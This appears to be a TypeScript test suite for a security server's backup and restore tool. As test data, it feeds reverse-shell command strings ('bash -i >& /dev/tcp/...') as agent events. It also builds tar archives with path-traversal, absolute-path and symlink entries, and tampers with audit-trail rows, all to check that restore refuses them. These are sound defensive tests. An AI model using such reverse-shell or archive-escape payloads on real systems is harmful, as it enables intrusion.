/** Backups of a server under load, restored and compared; damaged, cut off and hostile files. */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { after, before, test } from 'node:test'
import { zstdCompressSync } from 'node:zlib'
import type { AuditRow } from '@rampart/api'
import { Header } from 'tar'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer, temporaryDirectory } from '../testing/test-server.ts'
import { backUp } from './back-up.ts'
import { restore } from './restore.ts'

const password = 'correct horse battery'
let shared: TestServer
let agent: TestAgent
let sequence = 0
const folder = temporaryDirectory()
const request = (file: string) => ({
  stateDirectory: join(shared.directory, 'state'),
  file: join(folder, file),
  version: '0.1.0',
  now: new Date(),
})

before(async () => {
  shared = await startTestServer({ checkpointMs: 50 })
  await new TestConsole(shared.server.consoleUrl).begin(shared.server.firstUser ?? { name: '', password: '' }, password)
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
})
after(async () => {
  agent.cut()
  await shared.end()
})

async function deliver(count: number): Promise<void> {
  for (let one = 0; one < count; one++) {
    sequence++
    const commands = Array.from({ length: 20 }, (_, index) => `bash -i >& /dev/tcp/${sequence}/${index}`)
    await agent.deliver(
      sequence,
      commands.map((command, index) => agent.started(sequence * 100 + index, command)),
    )
  }
}

async function contentsOf(server: TestServer): Promise<unknown> {
  const browser = new TestConsole(server.server.consoleUrl)
  await browser.signIn('admin', password)
  const titles: unknown[] = []
  for (let cursor = ''; ; ) {
    const page = await browser.call('listAlerts', {
      query: `sort=firstAt&order=asc&limit=500${cursor && `&cursor=${cursor}`}`,
    })
    titles.push(
      ...page.body.items.map(({ id, count, version, state }: Record<string, unknown>) => [id, count, version, state]),
    )
    if (page.body.nextCursor === null) break
    cursor = encodeURIComponent(page.body.nextCursor)
  }
  const assets = (await browser.call('listAssets')).body.items.map((row: { id: string; name: string }) => [
    row.id,
    row.name,
  ])
  // Events that are made once more for the copy have times of their own, so their order says nothing.
  return { titles: titles.sort(), assets }
}

test('a backup under load restores to a server that goes on from there', async () => {
  let loading = true
  const load = (async () => {
    while (loading) await deliver(1)
  })()
  await deliver(20)
  const made = await backUp(request('loaded.backup'))
  const lastBefore = sequence
  loading = false
  await load
  assert.ok(made.ok, JSON.stringify(made))
  assert.equal(statSync(made.value.file).mode & 0o777, 0o600)
  assert.equal(readdirSync(folder).length, 1, 'nothing else is left beside it')

  const directory = temporaryDirectory()
  const restored = await restore({ file: made.value.file, stateDirectory: join(directory, 'state') })
  assert.ok(restored.ok, JSON.stringify(restored))
  assert.deepEqual(restored.value.rows, made.value.rows)
  const copy = await startTestServer({ stateDirectory: join(directory, 'state') })
  try {
    const browser = new TestConsole(copy.server.consoleUrl)
    assert.equal((await browser.signIn('admin', password)).status, 200)
    const total = (await browser.call('listAlerts')).body.total
    assert.ok(total >= 20 * 20 && total <= lastBefore * 20 + 20, `${total}`)
    // The agent keeps what the copy lacks and sends it again: nothing is missing, nothing counted twice.
    const server = `${copy.server.agentUrl.replace('https:', 'wss:')}/agent`
    const again = new TestAgent({ ...agent.enrolment, server }, agent.spoolId)
    await again.connect()
    for (let number = again.acknowledged + 1; number <= sequence; number++) {
      const commands = Array.from({ length: 20 }, (_, index) => `bash -i >& /dev/tcp/${number}/${index}`)
      await again.deliver(
        number,
        commands.map((command, index) => again.started(number * 100 + index, command)),
      )
    }
    again.cut()
    assert.deepEqual(await contentsOf(copy), await contentsOf(shared))
    const acts = async (of: TestConsole) =>
      (await of.call('listAudit', { query: 'action=backup.made&action=backup.restored' })).body.items as AuditRow[]
    const [restoredRow, madeRow] = await acts(browser)
    assert.equal(restoredRow?.action, 'backup.restored')
    assert.deepEqual([madeRow?.action, madeRow?.subject], ['backup.made', made.value.file])
    assert.match(madeRow?.actor ?? '', /@cli$/)
    assert.equal((await browser.call('verifyAudit')).body.intact, true)
    const original = new TestConsole(shared.server.consoleUrl)
    await original.signIn('admin', password)
    assert.deepEqual(
      (await acts(original)).map(({ action }) => action),
      ['backup.made'],
    )
  } finally {
    await copy.server.stop()
  }
})

test('a stopped server gives a backup with equal files', async () => {
  agent.cut()
  await shared.restart(() => {})
  await shared.server.stop()
  const made = await backUp(request('stopped.backup'))
  assert.ok(made.ok)
  const directory = join(temporaryDirectory(), 'state')
  assert.ok((await restore({ file: made.value.file, stateDirectory: directory })).ok)
  const state = join(shared.directory, 'state')
  for (const name of ['authority/authority.pem', 'authority/authority.key', 'detector.checkpoint'])
    assert.deepEqual(readFileSync(join(directory, name)), readFileSync(join(state, name)), name)
  for (const name of readdirSync(join(state, 'events')).filter((one) => statSync(join(state, 'events', one)).isFile()))
    assert.deepEqual(readFileSync(join(directory, 'events', name)), readFileSync(join(state, 'events', name)), name)
  assert.equal(existsSync(join(directory, 'server.lock')), false)
  await shared.restart()
})

test('what a crashed backup left is removed by the next one and at the start; one that is being made stays', async () => {
  const state = join(shared.directory, 'state')
  const ended = spawnSync('true').pid
  for (const name of [`.tmp-rampart-backup-${ended}-crashd`, '.tmp-rampart-backup-oldone']) {
    mkdirSync(join(state, name))
    writeFileSync(join(state, name, 'rampart.db'), 'a copy')
  }
  const other = join(state, `.tmp-rampart-backup-${process.ppid}-living`)
  mkdirSync(other)
  const file = join(state, 'inside.backup')
  assert.ok((await backUp({ ...request('x'), file })).ok)
  const left = () => readdirSync(state).filter((name) => name.startsWith('.tmp-rampart-backup-'))
  assert.deepEqual(left(), [basename(other)])
  writeFileSync(join(folder, 'other.backup.partial'), '')
  const beside = await backUp(request('other.backup'))
  assert.equal(!beside.ok && beside.error.code, 'backup.under-way')
  for (const path of [join(folder, 'other.backup.partial'), other, file]) rmSync(path, { recursive: true })
  mkdirSync(join(state, '.tmp-rampart-backup-atstart'))
  await shared.restart()
  assert.deepEqual(left(), [])
})

test('a backup whose audit trail was changed is refused', async () => {
  const directory = temporaryDirectory()
  const state = join(directory, 'state')
  const original = await backUp(request('original.backup'))
  assert.ok(original.ok && (await restore({ file: original.value.file, stateDirectory: state })).ok)
  const database = new DatabaseSync(join(state, 'rampart.db'))
  database.exec(`DROP TRIGGER audit_trail_is_not_changed;
    UPDATE audit_trail SET actor = 'nobody' WHERE number = (SELECT max(number) - 1 FROM audit_trail)`)
  database.close()
  const file = join(directory, 'changed.backup')
  const made = await backUp({ ...request('x'), stateDirectory: state, file })
  assert.ok(made.ok)
  const refused = await restore({ file, stateDirectory: join(directory, 'copy') })
  assert.ok(!refused.ok)
  assert.equal(refused.error.code, 'backup.database-damaged')
  assert.match(refused.error.message, /audit trail: row \d+/)
  assert.equal(existsSync(join(directory, 'copy')), false)
})

test('rows of the audit trail that are missing at a start are told there', async () => {
  await shared.restart(() => {
    const database = new DatabaseSync(join(shared.directory, 'state/rampart.db'))
    database.exec(`DROP TRIGGER audit_trail_keeps;
      DELETE FROM audit_trail WHERE number = (SELECT max(number) FROM audit_trail)`)
    database.close()
  })
  const browser = new TestConsole(shared.server.consoleUrl)
  await browser.signIn('admin', password)
  const { items } = (await browser.call('listAudit', { query: 'action=audit.cut-off' })).body
  assert.equal(items.length, 1)
  assert.match(JSON.stringify(items[0]), /and those after it are missing/)
})

test('what cannot be backed up or restored is refused in words, and nothing is left behind', async () => {
  const made = await backUp(request('good.backup'))
  assert.ok(made.ok)
  const target = () => join(temporaryDirectory(), 'state')
  const codeOf = async (file: string, stateDirectory = target()) => {
    const result = await restore({ file, stateDirectory })
    assert.ok(!result.ok)
    assert.equal(existsSync(stateDirectory) && result.error.code !== 'backup.target-not-empty', false, file)
    return result.error.code
  }
  const refused = await backUp(request('good.backup'))
  assert.equal(!refused.ok && refused.error.code, 'backup.file-exists')
  const nothing = await backUp({ ...request('x.backup'), stateDirectory: temporaryDirectory() })
  assert.equal(!nothing.ok && nothing.error.code, 'backup.no-state')

  const bytes = readFileSync(made.value.file)
  const write = (name: string, content: Uint8Array) => {
    writeFileSync(join(folder, name), content)
    return join(folder, name)
  }
  assert.equal(await codeOf(write('cut', bytes.subarray(0, bytes.length - 2000))), 'backup.damaged')
  const flipped = Buffer.from(bytes)
  flipped[Math.floor(bytes.length / 2)]! ^= 0xff
  assert.equal(await codeOf(write('flipped', flipped)), 'backup.damaged')
  assert.equal(await codeOf(write('text', Buffer.from('hello'))), 'backup.not-a-backup')
  assert.equal(await codeOf(join(folder, 'missing')), 'backup.unwritable')
  const full = temporaryDirectory()
  mkdirSync(join(full, 'something'))
  assert.equal(await codeOf(made.value.file, full), 'backup.target-not-empty')
  assert.deepEqual(readdirSync(full), ['something'])
})

test('a hostile archive writes nowhere else', async () => {
  const about = { format: 1, version: '0.1.0', createdAt: '', rows: {}, migrations: [] }
  const entry = (path: string, text: string, type: 'File' | 'SymbolicLink' = 'File') => {
    const header = new Header({
      path,
      size: type === 'File' ? text.length : 0,
      type,
      mode: 0o600,
      linkpath: type === 'File' ? undefined : text,
    })
    header.encode()
    const body = Buffer.alloc(type === 'File' ? Math.ceil(text.length / 512) * 512 : 0)
    if (type === 'File') body.write(text)
    return Buffer.concat([header.block ?? Buffer.alloc(0), body])
  }
  const archive = (...entries: Buffer[]) =>
    zstdCompressSync(Buffer.concat([entry('backup.json', JSON.stringify(about)), ...entries, Buffer.alloc(1024)]))
  for (const [name, bytes] of Object.entries({
    climbing: archive(entry('../outside', 'x')),
    absolute: archive(entry('/tmp/rampart-outside', 'x')),
    link: archive(entry('events', '/tmp', 'SymbolicLink'), entry('events/rampart-outside', 'x')),
    newer: archive(),
  })) {
    const file = join(folder, name)
    writeFileSync(file, bytes)
    const parent = temporaryDirectory()
    const result = await restore({ file, stateDirectory: join(parent, 'state') })
    assert.equal(result.ok, false, name)
    assert.deepEqual(readdirSync(parent), [], name)
  }
  assert.equal(existsSync('/tmp/rampart-outside'), false)
})
